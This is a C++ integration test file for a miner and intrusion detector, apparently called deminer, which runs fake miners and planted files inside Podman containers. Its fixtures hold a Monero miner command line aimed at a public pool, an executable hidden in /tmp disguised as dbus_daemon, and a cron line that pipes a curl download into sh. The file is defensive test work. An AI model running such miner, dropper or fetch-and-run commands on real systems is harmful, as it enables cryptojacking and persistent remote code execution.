// Miners inside real containers, through Podman's Docker-compatible API:
// the process, its pool connection in the container's own network namespace,
// and the container's name from the API.
#include <fmt/format.h>
#include <gtest/gtest.h>
#include <unistd.h>

#include <thread>

#include "harness.h"

namespace deminer::it {
namespace {

class ContainerTest : public PodmanSuite {};

// Findings of `check` about container `name`.
std::vector<nlohmann::json> InContainer(const nlohmann::json& scan, const std::string& check,
                                        const std::string& name) {
  std::vector<nlohmann::json> out;
  for (const auto& f : FindingsOf(scan, check)) {
    if (f["container"].is_object() &&
        (f["container"]["name"] == name || f["container"]["id"] == name)) {
      out.push_back(f);
    }
  }
  return out;
}

// Polls the scan until `check` reports something about `needle` (the container
// needs a moment to start its process and connect).
nlohmann::json ScanUntil(const std::map<std::string, std::string>& env, const std::string& check,
                         const std::string& container) {
  nlohmann::json scan;
  for (int i = 0; i < 50; ++i) {
    scan = ScanJson({}, env);
    if (!InContainer(scan, check, container).empty()) break;
    std::this_thread::sleep_for(std::chrono::milliseconds(200));
  }
  return scan;
}

TEST_F(ContainerTest, MinerInContainerIsAttributedByNameWithItsPoolConnection) {
  const std::string name = fmt::format("deminer-it-web-{}", getpid());
  // The seeds' weak defaults: network only for itself, miner dropped in /tmp.
  const std::string id =
      podman_->RunDetached(name,
                           {"--network", "none", "-e", "IMITATION_LISTEN=127.0.0.1:3333", "-e",
                            "IMITATION_CONNECT=127.0.0.1:3333"},
                           {"/tmp/javae", "-o", "pool.supportxmr.com:443", "-k", "--tls",
                            "--cpu-max-threads-hint=60", "-u", kSeedWallet});
  ASSERT_FALSE(id.empty());
  const std::map<std::string, std::string> env = {{"DOCKER_HOST", "unix://" + podman_->socket()}};
  const auto scan = ScanUntil(env, "net.pool-connection", name);

  const auto miners = InContainer(scan, "proc.miner", name);
  ASSERT_EQ(miners.size(), 1u) << scan.dump(2);
  const auto& m = miners[0];
  EXPECT_EQ(m["severity"], "critical");
  ASSERT_TRUE(m["container"].is_object());
  EXPECT_EQ(m["container"]["id"], id);
  EXPECT_EQ(m["container"]["name"], name);
  EXPECT_EQ(m["container"]["image"], podman_->image());
  EXPECT_EQ(m["container"]["runtime"], "podman");
  // The miner is the container's init: nothing of the host above it.
  EXPECT_TRUE(m["evidence"]["ancestry"].empty()) << m["evidence"].dump(2);

  // The exe is the container's /tmp as the container sees it.
  const auto temp = InContainer(scan, "proc.exe-in-temp", name);
  ASSERT_EQ(temp.size(), 1u);
  EXPECT_EQ(temp[0]["container"]["name"], name);

  const auto conns = InContainer(scan, "net.pool-connection", name);
  ASSERT_EQ(conns.size(), 1u) << scan.dump(2);
  EXPECT_EQ(conns[0]["container"]["name"], name);
  EXPECT_EQ(conns[0]["severity"], "critical");
  EXPECT_NE(conns[0]["subject"].get<std::string>().find("127.0.0.1:3333"), std::string::npos);
}

TEST_F(ContainerTest, AncestryInsideContainerStopsAtItsInit) {
  const std::string name = fmt::format("deminer-it-app-{}", getpid());
  const std::string id = podman_->RunDetached(
      name,
      {"--network", "none", "-e", "IMITATION_SPAWN=/tmp/javae -o 10.9.8.7:3333 --donate-level 1"},
      {"/app/node", "server.js"});
  ASSERT_FALSE(id.empty());
  const std::map<std::string, std::string> env = {{"DOCKER_HOST", "unix://" + podman_->socket()}};
  const auto scan = ScanUntil(env, "proc.miner", name);
  const auto miners = InContainer(scan, "proc.miner", name);
  ASSERT_EQ(miners.size(), 1u) << scan.dump(2);
  EXPECT_NE(miners[0]["subject"].get<std::string>().find("/tmp/javae"), std::string::npos);
  const auto& anc = miners[0]["evidence"]["ancestry"];
  ASSERT_EQ(anc.size(), 1u) << anc.dump(2);
  EXPECT_EQ(anc[0]["cmdline"], "/app/node server.js");
  EXPECT_EQ(miners[0]["container"]["name"], name);
  // Seed name, pool port and an XMRig option add up to critical without a wallet.
  EXPECT_EQ(miners[0]["severity"], "critical");
}

TEST_F(ContainerTest, WithoutTheApiTheContainerIsNamedByIdAndTheGapIsReported) {
  const std::string name = fmt::format("deminer-it-noapi-{}", getpid());
  const std::string id = podman_->RunDetached(name, {"--network", "none"},
                                              {"/tmp/javae", "-o", "pool.supportxmr.com:3333"});
  ASSERT_FALSE(id.empty());
  // DOCKER_HOST points nowhere and no default socket exists on this machine.
  const std::map<std::string, std::string> env = {{"DOCKER_HOST", "unix:///nonexistent.sock"}};
  const auto scan = ScanUntil(env, "proc.miner", id);
  const auto miners = InContainer(scan, "proc.miner", id);
  ASSERT_EQ(miners.size(), 1u);
  EXPECT_EQ(miners[0]["container"]["id"], id);
  EXPECT_EQ(miners[0]["container"]["name"], "");
  bool gap = false;
  for (const auto& s : scan["skipped"]) {
    gap = gap || s["what"].get<std::string>().find("names of") != std::string::npos;
  }
  EXPECT_TRUE(gap) << scan["skipped"].dump(2);
}

// A file dropped into a container's /tmp lands in its writable layer; one
// dropped into a tmpfs /tmp is read through /proc/PID/root. Both are reported
// against the container, with the path the container sees.
TEST_F(ContainerTest, FilesDroppedInContainerTmpAreReportedAgainstIt) {
  const std::string layer = fmt::format("deminer-it-drop-{}", getpid());
  const std::string tmpfs = fmt::format("deminer-it-tmpfs-{}", getpid());
  const std::string drop =
      "mkdir /tmp/.svc_370 && cp /app/node /tmp/.svc_370/dbus_daemon && exec sleep 600";
  ASSERT_FALSE(podman_->RunDetached(layer, {"--network", "none"}, {"sh", "-c", drop}).empty());
  ASSERT_FALSE(podman_
                   ->RunDetached(tmpfs, {"--network", "none", "--tmpfs", "/tmp:rw,notmpcopyup"},
                                 {"sh", "-c", drop})
                   .empty());
  const std::map<std::string, std::string> env = {{"DOCKER_HOST", "unix://" + podman_->socket()}};
  nlohmann::json scan;
  for (int i = 0; i < 50; ++i) {
    scan = ScanJson({"--only", "files"}, env);
    if (InContainer(scan, "file.exe-in-temp", layer).size() == 1 &&
        InContainer(scan, "file.exe-in-temp", tmpfs).size() == 1) {
      break;
    }
    std::this_thread::sleep_for(std::chrono::milliseconds(200));
  }
  for (const std::string& name : {layer, tmpfs}) {
    const auto exe = InContainer(scan, "file.exe-in-temp", name);
    ASSERT_EQ(exe.size(), 1u) << name << "\n" << scan.dump(2);
    EXPECT_EQ(exe[0]["path"], "/tmp/.svc_370/dbus_daemon");
    EXPECT_EQ(exe[0]["severity"], "high");
    EXPECT_EQ(exe[0]["container"]["name"], name);
    EXPECT_EQ(exe[0]["evidence"]["area"], name == layer ? "container-layer" : "container-tmp");
    const auto hidden = InContainer(scan, "file.hidden", name);
    ASSERT_EQ(hidden.size(), 1u) << name;
    EXPECT_EQ(hidden[0]["path"], "/tmp/.svc_370");
    const auto named = InContainer(scan, "file.name-ioc", name);
    ASSERT_EQ(named.size(), 1u) << name;
  }
  // The image's own /tmp/javae is not in the writable layer: not a drop.
  for (const auto& f : InContainer(scan, "file.exe-in-temp", layer)) {
    EXPECT_NE(f["path"], "/tmp/javae");
  }
}

// A dropper that wins a container writes its restart there: a cron file and a
// unit inside the container are judged as persistence and named by container.
TEST_F(ContainerTest, PersistenceWrittenInsideAContainerIsReportedAgainstIt) {
  const std::string name = fmt::format("deminer-it-cron-{}", getpid());
  const std::string plant =
      "mkdir -p /etc/cron.d /etc/systemd/system && "
      "echo '*/5 * * * * root curl -fsSL http://127.0.0.1/x.sh | sh' > /etc/cron.d/update && "
      "echo '[Service]' > /etc/systemd/system/javae.service && exec sleep 600";
  ASSERT_FALSE(podman_->RunDetached(name, {"--network", "none"}, {"sh", "-c", plant}).empty());
  const std::map<std::string, std::string> env = {{"DOCKER_HOST", "unix://" + podman_->socket()}};
  nlohmann::json scan;
  for (int i = 0; i < 50; ++i) {
    scan = ScanJson({"--only", "persistence"}, env);
    if (!InContainer(scan, "persist.systemd", name).empty()) break;
    std::this_thread::sleep_for(std::chrono::milliseconds(200));
  }
  const auto cron = InContainer(scan, "persist.cron", name);
  ASSERT_EQ(cron.size(), 1u) << scan.dump(2);
  EXPECT_EQ(cron[0]["path"], "/etc/cron.d/update");
  EXPECT_EQ(cron[0]["line"], 1);
  EXPECT_EQ(cron[0]["severity"], "high");
  EXPECT_EQ(cron[0]["subject"], "/etc/cron.d/update:1 in container " + name);
  const auto unit = InContainer(scan, "persist.systemd", name);
  ASSERT_EQ(unit.size(), 1u);
  EXPECT_EQ(unit[0]["severity"], "critical");  // named like seed 000's miner
}

}  // namespace
}  // namespace deminer::it
